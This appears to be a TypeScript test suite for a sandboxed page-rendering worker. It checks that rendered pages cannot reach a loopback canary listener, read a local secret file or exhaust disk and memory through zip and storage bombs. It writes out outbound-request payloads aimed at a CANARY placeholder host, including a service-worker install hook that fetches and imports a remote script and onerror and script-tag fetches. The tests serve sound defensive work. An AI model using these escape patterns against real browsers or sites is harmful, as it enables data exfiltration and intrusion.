/**
 * Pages that try to get out, or to take the machine with them. Each line is one attempt; a server on
 * loopback must never hear of any, and what is captured afterwards has the pixels it had before.
 */
import { existsSync } from 'node:fs';
import { readdir, rm, writeFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { makeZip } from './archives.ts';
import { typeOf } from './engine-types.ts';
import { attempts } from './escapes/attempts.ts';
import { bombs, disk } from './escapes/bombs.ts';
import { helpOf, type Listeners, opened, startListeners } from './escapes/listeners.ts';
import { escapeGaps } from './gaps.ts';
import type { Result, Work } from './server-double.ts';
import {
  packageWork,
  pageOf,
  recordedWork,
  startTestWorker,
  type TestWorker,
} from './worker-fixture.ts';

const hashesOf = (result: Result): string =>
  JSON.stringify(result.snapshots.map(({ image }) => image.hash));

describe.each(inject('engines'))('%s', (engine) => {
  let test: TestWorker;
  let listeners: Listeners;
  /** A file of the machine that pages try to read. */
  const secretFile = join(tmpdir(), `twinlens-escape-${process.pid}.txt`);
  const secret = 'the secret of this machine';
  let usual: string;

  const of = (work: Work): Work => ({ ...work, type: typeOf[engine] });

  /** A page as any other: what it looks like must not depend on who was there before. */
  const innocent = () =>
    of(
      packageWork(
        pageOf([
          {
            html: '<h1 style="font:40px serif">As before</h1><p style="filter:blur(1px)">text</p>',
            code: `root.append(String(Object.keys(localStorage)), document.cookie, String(await caches?.keys?.()),
          String((await navigator.serviceWorker?.getRegistrations?.() ?? []).length));`,
          },
        ]),
      ),
    );

  async function expectAsBefore(): Promise<void> {
    expect(hashesOf(await test.server.capture(innocent()))).toBe(usual);
  }

  beforeAll(async () => {
    await writeFile(secretFile, secret);
    listeners = await startListeners();
    test = await startTestWorker({
      targets: [typeOf[engine]],
      allowedPrivateHosts: [opened],
      limits: {
        loadMs: 8000,
        exampleMs: 5000,
        settleMs: 1000,
        answerMs: 5000,
        maxBytes: 400 * 2 ** 20,
        maxDiskBytes: 60 * 2 ** 20,
        maxFailed: 4,
      },
    });
    usual = hashesOf(await test.server.capture(innocent()));
  });
  afterAll(async () => {
    await test.stop();
    listeners.close();
    await rm(secretFile, { force: true });
  });

  /** With the places that attempts name. */
  const placed = (code: string): string =>
    code
      .replaceAll('CANARY', `127.0.0.1:${listeners.port}`)
      .replaceAll('PORT', String(listeners.port))
      .replaceAll('SECRET', `file://${secretFile}`)
      .replaceAll('SERVER', test.server.origin);

  const attempt = (name: string) => ({
    variant: name,
    html: '<p>x</p>',
    code: `${helpOf(name, listeners.ear)}
        await Promise.race([(async () => { ${placed(attempts[name] ?? '')} })(), wait(3000)]).catch((error) => say('threw ' + error));
        await told();`,
  });

  describe('ways out', () => {
    it('lead nowhere, all of them in one page', async () => {
      const { heard, said } = listeners;
      heard.length = 0;
      said.length = 0;
      const names = Object.keys(attempts).filter((name) => !(name in escapeGaps[engine]));
      expect(names.length).toBeGreaterThan(30);
      const examples = names.map(attempt);
      const files = [
        {
          name: 'sw.js',
          content: placed(
            `self.addEventListener('install', () => { fetch('http://CANARY/sw', { mode: 'no-cors' }).catch(() => 0); importScripts?.('http://CANARY/sw-import'); });`,
          ),
        },
      ];
      const result = await test.server.partly(of(packageWork(pageOf(examples), { files })));
      expect(result.failed ?? []).toEqual([]);
      expect(said.filter((text) => text.includes('reached'))).toEqual([]);
      expect(said.filter((text) => text.includes('refused')).length).toBeGreaterThan(20);
      expect(result.snapshots).toHaveLength(names.length);
      expect(heard).toEqual([]);
      expect(JSON.stringify(result)).not.toContain(secret);
      for (const folder of [homedir(), join(homedir(), 'Downloads'), process.cwd(), tmpdir()]) {
        const there = existsSync(folder) ? await readdir(folder) : [];
        expect(there.filter((name) => name.includes('twinlens-escape.bin'))).toEqual([]);
      }
      await expectAsBefore();
    });

    const failing = Object.keys(attempts).filter((name) => name in escapeGaps[engine]);
    it.each(failing)('%s fails its example, and leads nowhere', async (name) => {
      listeners.heard.length = 0;
      const { failed } = await test.server.partly(of(packageWork(pageOf([attempt(name)]))));
      expect(failed?.[0]?.message).toMatch(
        /did not finish rendering within 5 s|stopped responding while its picture was taken/,
      );
      expect(listeners.heard).toEqual([]);
      await expectAsBefore();
    });

    it('would be heard of, and redirects are looked at once more', async () => {
      const { heard, port } = listeners;
      heard.length = 0;
      const code = `await fetch('http://${opened}:${port}/control', { mode: 'no-cors' }).catch(() => 0)`;
      await test.server.capture(of(packageWork(pageOf([{ html: 'x', code }]))));
      expect(heard).toEqual(['connection', 'GET /control HTTP/1.1']);
    });

    it('lead nowhere from recorded documents', async () => {
      listeners.heard.length = 0;
      const html = placed(`<img src="http://CANARY/a"><iframe src="http://CANARY/b"></iframe>
      <link rel="preconnect" href="http://CANARY"><link rel="stylesheet" href="http://CANARY/c">
      <meta http-equiv="refresh" content="0;url=http://CANARY/d"><object data="http://CANARY/e"></object>
      <svg><image href="http://CANARY/f"/></svg><video src="http://CANARY/g" poster="http://CANARY/h"></video>
      <script>fetch('http://CANARY/i')</script><img src=x onerror="fetch('http://CANARY/j')">
      <iframe srcdoc="<script>fetch('http://CANARY/k')</script>"></iframe><base href="http://CANARY/"><p>x</p>`);
      await test.server.partly(of(recordedWork([{ html }])));
      expect(listeners.heard).toEqual([]);
    });

    it('lead nowhere from pages that only an allow list opens', async () => {
      const { heard, port } = listeners;
      heard.length = 0;
      const urls = ['127.0.0.1', 'localhost', '[::1]'].map((host) => `http://${host}:${port}/`);
      const pages = urls.map((url, index) => ({ url, title: `page ${index}` }));
      const result = await test.server.partly(of({ payload: { viewport: '400x300', pages } }));
      expect(result.failed).toHaveLength(urls.length);
      for (const { message } of result.failed ?? [])
        expect(message).toContain('TWINLENS_ALLOWED_PRIVATE_HOSTS');
      expect(heard).toEqual([]);
    });
  });

  describe('bombs', () => {
    it.each(Object.entries(bombs))('%s', async (name, { code, says }) => {
      const result = await test.server.partly(
        of(
          packageWork(
            pageOf([
              { variant: 'before', html: '<p>before</p>' },
              { variant: name, html: '<p>bomb</p>', code },
              { variant: 'after', html: '<p>after</p>' },
            ]),
          ),
        ),
      );
      const [message] = (result.failed ?? []).map((failure) => failure.message);
      const fails = says ?? (name in escapeGaps[engine] ? 'stopped responding' : undefined);
      if (fails === undefined) expect(message).toBeUndefined();
      else expect(message).toContain(fails);
      const shown = result.snapshots.map(({ variant }) => variant);
      // After a failure this page does not know where to go on; others are for that.
      expect(shown).toEqual(fails === undefined ? ['before', name, 'after'] : ['before']);
      await expectAsBefore();
    });

    it('what fills the disk is gone with the page', async () => {
      const work = packageWork(pageOf([{ html: '<p>x</p>', code: disk }]));
      const { failed = [] } = await test.server.partly(of(work));
      // The others keep it in memory, or none of it.
      if (engine === 'firefox')
        expect(failed[0]?.message).toContain('filled the disk: the page kept more than 60 MB');
      else expect(failed).toEqual([]);
      await expectAsBefore();
    });

    it('archives are refused before they are large', async () => {
      const files = [{ name: 'zeros.bin', content: Buffer.alloc(30 * 2 ** 20) }];
      const bomb = makeZip([{ name: 'iframe.html', content: pageOf([{ html: 'x' }]) }, ...files]);
      const failure = await test.server.failure(
        of({ payload: { viewport: '400x300', staticPackage: 'a/1/0.zip' }, package: bomb }),
      );
      expect(failure.retryable).toBe(false);
      await expectAsBefore();
    });
  });
});
